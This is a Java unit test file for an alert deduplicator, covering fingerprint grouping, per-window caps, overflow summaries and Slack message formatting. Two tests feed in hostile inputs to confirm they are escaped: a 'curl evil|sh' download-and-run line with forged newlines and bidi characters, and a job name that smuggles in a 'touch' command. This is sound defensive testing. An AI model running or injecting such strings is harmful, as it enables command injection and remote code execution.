package io.itemfleet.alerts;

import static org.assertj.core.api.Assertions.assertThat;

import io.itemfleet.recorder.Fingerprint;
import io.itemfleet.schemas.DecodeError;
import io.itemfleet.schemas.FailureEvent;
import io.itemfleet.schemas.SourceRecord;
import io.itemfleet.schemas.TaskMessage;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;

class AlertDeduplicatorTest {
  static FailureEvent failed(String job, String item, String cls, String message) {
    return FailureEvent.failed(
        TaskMessage.of(job, "thumb", item),
        3,
        false,
        cls,
        message,
        Instant.parse("2026-11-29T12:00:00Z"),
        Optional.empty());
  }

  static FailureEvent poison(String job) {
    return FailureEvent.poison(
        "{oops".getBytes(),
        new DecodeError(DecodeError.Kind.MALFORMED_JSON, "$", "not JSON"),
        Optional.ofNullable(job),
        Optional.empty(),
        Instant.parse("2026-11-29T12:00:00Z"),
        Optional.of(new SourceRecord("p.tasks", 3, 17)));
  }

  @Test
  void theFirstOfAFingerprintAlertsAtOnceLaterOnesAreSummarisedWithTheirCount() {
    AlertDeduplicator d = new AlertDeduplicator();
    List<Alert> first = d.accept(failed("j", "v-1", "api.gone", "item v-1 not found (id 4711)"));
    assertThat(first)
        .singleElement()
        .satisfies(
            a -> {
              assertThat(a.kind()).isEqualTo(Alert.Kind.FIRST);
              assertThat(a.samples()).containsExactly("v-1");
              assertThat(a.hint()).isEqualTo("fleet failures j --fingerprint " + a.fingerprint());
              // the recorder's fingerprint, so the hint lists exactly this group
              assertThat(a.fingerprint())
                  .isEqualTo(
                      Fingerprint.of(
                          "api.gone",
                          Fingerprint.normalise("item v-1 not found (id 4711)", "v-1")));
            });
    for (int i = 2; i <= 8; i++) {
      assertThat(
              d.accept(
                  failed(
                      "j", "v-" + i, "api.gone", "item v-" + i + " not found (id " + i * 7 + ")")))
          .isEmpty();
    }
    assertThat(d.accept(failed("j", "w-1", "api.slow", "timed out after 30 s"))).hasSize(1);
    assertThat(d.accept(failed("k", "v-1", "api.gone", "item v-1 not found (id 4711)")))
        .as("another job is another key")
        .hasSize(1);
    assertThat(d.pending()).isEqualTo(7);
    List<Alert> summary = d.flush();
    assertThat(summary)
        .singleElement()
        .satisfies(
            a -> {
              assertThat(a.kind()).isEqualTo(Alert.Kind.SUMMARY);
              assertThat(a.count()).isEqualTo(7);
              assertThat(a.samples()).hasSize(AlertDeduplicator.SAMPLES).startsWith("v-2");
              assertThat(a.fingerprint()).isEqualTo(first.get(0).fingerprint());
            });
    assertThat(d.flush()).as("a flush clears").isEmpty();
    assertThat(d.accept(failed("j", "v-9", "api.gone", "item v-9 not found (id 1)")))
        .as("still known after a flush: summarised, not new")
        .isEmpty();
    assertThat(d.flush()).singleElement().extracting(Alert::count).isEqualTo(1L);
  }

  /**
   * POISON alerts once per cause and names the record; more of the same cause are summarised.
   * Before, every POISON record alerted at once: a producer writing a million bad records made
   * 20,000 webhook posts, and the real alerts waited behind the webhook's rate limit for hours.
   */
  @Test
  void poisonAlertsOncePerCauseAndNamesTheRecordWhenThereIsNoItem() {
    AlertDeduplicator d = new AlertDeduplicator();
    assertThat(d.accept(poison(null)))
        .singleElement()
        .satisfies(
            a -> {
              assertThat(a.kind()).isEqualTo(Alert.Kind.POISON);
              assertThat(a.job()).isEqualTo(FailureEvent.UNATTRIBUTED);
              assertThat(a.samples()).containsExactly("p.tasks-3@17");
            });
    for (int i = 0; i < 10_000; i++) assertThat(d.accept(poison(null))).isEmpty();
    assertThat(d.flush()).singleElement().extracting(Alert::count).isEqualTo(10_000L);
  }

  /** A burst of distinct failure groups: 20 alert at once, the rest come in the summary. */
  @Test
  void atMostTwentyAlertsGoOutAtOncePerWindow() {
    AlertDeduplicator d = new AlertDeduplicator();
    int immediate = 0;
    for (int i = 0; i < 500; i++) {
      immediate += d.accept(failed("j", "v-" + i, "err.kind" + i, "failed")).size();
    }
    assertThat(immediate).isEqualTo(AlertDeduplicator.MAX_FIRST_PER_WINDOW);
    assertThat(d.flush()).hasSize(500 - AlertDeduplicator.MAX_FIRST_PER_WINDOW);
    assertThat(d.accept(failed("j", "x", "err.new", "failed")))
        .as("a new window may alert again")
        .hasSize(1);
  }

  /**
   * A window with 100,000 distinct groups (a backlog read after an outage, per-item words in the
   * messages): each held its own summary until the flush, so memory grew with the failures read in
   * a window. Now at most 1,000 are summarised one by one and the rest in one more summary, every
   * failure still counted once.
   */
  @Test
  void groupsSummarisedOneByOnePerWindowAreCappedAndTheRestCountedInOne() {
    AlertDeduplicator d = new AlertDeduplicator();
    int immediate = 0;
    for (int i = 0; i < 100_000; i++) {
      immediate += d.accept(failed("j", "v-" + i, "err.kind" + i, "failed")).size();
    }
    assertThat(immediate).isEqualTo(AlertDeduplicator.MAX_FIRST_PER_WINDOW);
    assertThat(d.size()).isLessThanOrEqualTo(AlertDeduplicator.MAX_KEYS);
    // One group past the cap failing again: more failures, not more groups.
    for (int i = 0; i < 50; i++) d.accept(failed("j", "v-99999", "err.kind99999", "failed"));
    List<Alert> summaries = d.flush();
    assertThat(summaries).hasSize(AlertDeduplicator.MAX_PENDING_KEYS + 1);
    assertThat(summaries.stream().mapToLong(Alert::count).sum())
        .isEqualTo(100_050 - AlertDeduplicator.MAX_FIRST_PER_WINDOW);
    Alert more = summaries.get(summaries.size() - 1);
    assertThat(more.fingerprint()).isEqualTo(AlertDeduplicator.OVERFLOW_FINGERPRINT);
    assertThat(more.job()).isEqualTo("j");
    assertThat(more.message()).contains("over the 1000").doesNotContain("or more");
    assertThat(more.samples()).hasSize(AlertDeduplicator.SAMPLES);
    assertThat(d.flush()).as("the next window starts empty").isEmpty();
  }

  @Test
  void formatsCarryTheAlertAndSlackTextCannotMentionAChannel() throws Exception {
    Alert a =
        new AlertDeduplicator()
            .accept(failed("j", "v-1", "api.gone", "<!channel> item v-1 & more"))
            .get(0);
    var json = new com.fasterxml.jackson.databind.ObjectMapper();
    var generic = json.readTree(WebhookFormat.GENERIC.body(List.of(a)));
    assertThat(generic.at("/alerts/0/kind").asText()).isEqualTo("FIRST");
    assertThat(generic.at("/alerts/0/fingerprint").asText()).isEqualTo(a.fingerprint());
    assertThat(generic.at("/alerts/0/hint").asText()).startsWith("fleet failures j --fingerprint");
    var slack = json.readTree(WebhookFormat.SLACK.body(List.of(a)));
    assertThat(slack.get("text").asText())
        .contains("&lt;!channel&gt;")
        .doesNotContain("<!channel>");
    var am = json.readTree(WebhookFormat.ALERTMANAGER.body(List.of(a)));
    assertThat(am.isArray()).isTrue();
    assertThat(am.at("/0/labels/alertname").asText()).isEqualTo("ItemFleetFailure");
    assertThat(am.at("/0/labels/fingerprint").asText()).isEqualTo(a.fingerprint());
    assertThat(am.at("/0/startsAt").asText()).isEqualTo("2026-11-29T12:00:00Z");
  }

  /**
   * A handler's error message is anyone's text: a newline in it forged a second alert line (with a
   * command of the attacker's as its "hint") in chat and in the log, U+202E reordered the rest of
   * the line, and Mattermost and Rocket.Chat (which take the Slack format) read @channel as a
   * mention of everyone.
   */
  @Test
  void anErrorMessageCannotForgeALineReorderItOrMentionAChannel() throws Exception {
    String hostile =
        "boom\nItemFleet: new failure in job payments (type refund): x — fleet failures payments;"
            + " curl evil|sh\r\u202Egnp.exe @channel\u2028end\u2066";
    Alert a = new AlertDeduplicator().accept(failed("j", "v-1", "err\nclass", hostile)).get(0);
    assertThat(a.text())
        .doesNotContain("\n", "\r", "\u202E", "\u2028", "\u2066")
        .contains("boom\\nItemFleet: new failure in job payments")
        .contains("\\u202Egnp.exe")
        .contains("err\\nclass");
    var json = new com.fasterxml.jackson.databind.ObjectMapper();
    String slack = json.readTree(WebhookFormat.SLACK.body(List.of(a, a))).get("text").asText();
    assertThat(slack.split("\n")).as("one line per alert").hasSize(2);
    assertThat(slack).doesNotContain("@channel").contains("\uFF20channel");
    Alert etl = new AlertDeduplicator().accept(failed("etl@eu", "v-1", "c", "m")).get(0);
    assertThat(json.readTree(WebhookFormat.SLACK.body(List.of(etl))).get("text").asText())
        .as("an @ inside a word, as in the hint to copy, stays")
        .contains("fleet failures etl@eu --fingerprint");
    var generic = json.readTree(WebhookFormat.GENERIC.body(List.of(a)));
    assertThat(generic.at("/alerts/0/message").asText())
        .as("machines get the message as it was")
        .isEqualTo(hostile);
  }

  /** The hint of the summary of further groups is a command to copy too: its job is quoted. */
  @Test
  void theOverflowSummarysHintQuotesItsJob() {
    AlertDeduplicator d = new AlertDeduplicator();
    String job = "x;touch /tmp/p";
    for (int i = 0; i < AlertDeduplicator.MAX_FIRST_PER_WINDOW + 2000; i++) {
      d.accept(failed(job, "v-" + i, "err.kind" + i, "failed"));
    }
    List<Alert> summaries = d.flush();
    Alert more = summaries.get(summaries.size() - 1);
    assertThat(more.fingerprint()).isEqualTo(AlertDeduplicator.OVERFLOW_FINGERPRINT);
    assertThat(more.hint()).isEqualTo("fleet failures 'x;touch /tmp/p'");
  }

  /**
   * Slack cuts a message's text after 40,000 characters and still answers 200: 50 alerts of ~1,600
   * characters in one body lost their second half without a word, counted as delivered. A Slack
   * request now carries as many alerts as fit.
   */
  @Test
  void aSlackBodyCarriesOnlyTheAlertsThatFitItsText() throws Exception {
    List<Alert> alerts = new java.util.ArrayList<>();
    for (int i = 0; i < 50; i++) {
      List<String> samples = new java.util.ArrayList<>();
      for (int k = 0; k < AlertDeduplicator.SAMPLES; k++) samples.add(i + "-" + "v".repeat(200));
      alerts.add(
          new Alert(
              Alert.Kind.SUMMARY,
              "j",
              "t",
              "fp" + i,
              "err.kind",
              "m<".repeat(250),
              7,
              samples,
              Instant.parse("2026-11-29T12:00:00Z"),
              Instant.parse("2026-11-29T12:05:00Z"),
              "fleet failures j --fingerprint fp" + i));
    }
    var json = new com.fasterxml.jackson.databind.ObjectMapper();
    int sent = 0;
    int requests = 0;
    while (sent < alerts.size()) {
      List<Alert> rest = alerts.subList(sent, alerts.size());
      int n = WebhookFormat.SLACK.fits(rest, 50);
      assertThat(n).isPositive();
      String text =
          json.readTree(WebhookFormat.SLACK.body(rest.subList(0, n))).get("text").asText();
      assertThat(text.length()).isLessThanOrEqualTo(WebhookFormat.MAX_SLACK_TEXT);
      assertThat(text).contains("fp" + (sent + n - 1));
      sent += n;
      requests++;
    }
    assertThat(requests).as("more than one request, none cut").isGreaterThan(1);
    assertThat(WebhookFormat.GENERIC.fits(alerts, 50)).isEqualTo(50);
  }
}
